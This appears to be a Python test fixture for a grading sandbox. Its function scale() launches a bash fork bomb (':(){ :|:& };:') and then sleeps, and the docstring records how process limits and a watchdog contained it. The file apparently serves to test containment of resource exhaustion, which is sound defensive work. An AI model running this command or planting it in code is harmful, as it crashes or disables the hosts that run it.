"""A shell fork bomb, ``:(){ :|:& };:``, started from the first graded call, which then
waits. Stopped at the task limit: RLIMIT_NPROC counted for this worker alone (its own user
namespace, or its own uid) refuses the fork that would pass it, the watchdog's count kills
the whole tree. 0/8, status error."""
import subprocess
import time


def scale(x):
    subprocess.Popen(["/bin/bash", "-c", ":(){ :|:& };:"])
    time.sleep(120)
    return x


RATE = 0.01
